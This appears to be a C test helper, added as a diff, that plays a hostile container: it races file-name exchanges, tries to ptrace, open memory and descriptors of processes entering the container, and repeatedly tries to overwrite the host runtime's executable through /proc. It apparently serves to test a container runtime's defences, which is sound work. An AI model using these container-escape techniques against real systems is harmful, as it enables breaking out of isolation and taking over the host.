@@ -1,0 +1,173 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * What a hostile container, or a hostile neighbour on the host, does.
+ *
+ *   attacker swap A B           exchanges two names, as fast as it can, until killed
+ *   attacker join               looks for processes that enter the container and are not the image's: traces them,
+ *                               reads their memory, opens their descriptors, directories and executables; prints
+ *                               one line for each thing that worked; until killed
+ *   attacker overwrite          keeps open whatever executable it finds in /proc that is not the image's, and tries
+ *                               to write to it; prints one line if it could; until killed
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+/* Whether the process runs a program of the image, which a hostile image may do with as it likes. */
+static bool runs_the_image(int pid)
+{
+	char path[64];
+	struct stat executable, image;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	if (stat(path, &executable))
+		return errno == ENOENT || errno == ESRCH;
+	if (!stat("/proc/self/exe", &image) && image.st_dev == executable.st_dev &&
+	    image.st_ino == executable.st_ino)
+		return true;
+	return !stat("/bin/sh", &image) && image.st_dev == executable.st_dev && image.st_ino == executable.st_ino;
+}
+
+static void report(const char *what, int pid, const char *detail)
+{
+	printf("%s %d %s\n", what, pid, detail);
+	fflush(stdout);
+}
+
+static void open_links(int pid)
+{
+	static const char *const names[] = { "root", "cwd", "exe" };
+	char path[64 + NAME_MAX], target[PATH_MAX];
+	struct dirent *entry;
+	DIR *directory;
+
+	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
+		int fd;
+
+		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd >= 0 && !runs_the_image(pid))
+			report("opened", pid, names[i]);
+		if (fd >= 0)
+			close(fd);
+	}
+	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+	directory = opendir(path);
+	while (directory && (entry = readdir(directory))) {
+		struct stat status;
+		ssize_t length;
+
+		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, entry->d_name);
+		if (entry->d_name[0] == '.' || stat(path, &status) || !S_ISDIR(status.st_mode))
+			continue;
+		length = readlink(path, target, sizeof(target) - 1);
+		target[length > 0 ? length : 0] = '\0';
+		if (!runs_the_image(pid))
+			report("directory", pid, target);
+	}
+	if (directory)
+		closedir(directory);
+}
+
+static void trace(int pid)
+{
+	if (runs_the_image(pid) || ptrace(PTRACE_SEIZE, pid, NULL, NULL))
+		return;
+	if (!runs_the_image(pid))
+		report("traced", pid, "");
+	ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
+static void read_memory(int pid)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+	fd = open(path, O_RDWR | O_CLOEXEC);
+	if (fd >= 0 && !runs_the_image(pid))
+		report("memory", pid, "");
+	if (fd >= 0)
+		close(fd);
+}
+
+static void join_one(int pid)
+{
+	open_links(pid);
+	read_memory(pid);
+	trace(pid);
+}
+
+/* A descriptor survives the process, and with it the "text file busy" that protects a running program. */
+static void overwrite_one(int pid)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	if (runs_the_image(pid))
+		return;
+	fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	for (int attempt = 0; attempt < 20000; attempt++) {
+		int writable;
+
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+		writable = open(path, O_WRONLY | O_CLOEXEC);
+		if (writable >= 0) {
+			ssize_t written = write(writable, "#!/owned\n", 9);
+
+			report("overwrote", pid, written == 9 ? "wholly" : "not");
+			close(writable);
+			break;
+		}
+		if (errno != ETXTBSY)
+			break;
+	}
+	close(fd);
+}
+
+static _Noreturn void for_each_process(void (*act)(int))
+{
+	for (;;) {
+		DIR *directory = opendir("/proc");
+		struct dirent *entry;
+
+		if (!directory)
+			exit(1);
+		while ((entry = readdir(directory))) {
+			int pid = atoi(entry->d_name);
+
+			if (pid > 1 && pid != getpid())
+				act(pid);
+		}
+		closedir(directory);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	if (argc == 4 && !strcmp(argv[1], "swap")) {
+		puts("swapping");
+		fflush(stdout);
+		for (;;)
+			renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
+	}
+	puts("attacking");
+	fflush(stdout);
+	if (argc == 2 && !strcmp(argv[1], "join"))
+		for_each_process(join_one);
+	if (argc == 2 && !strcmp(argv[1], "overwrite"))
+		for_each_process(overwrite_one);
+	return 2;
+}
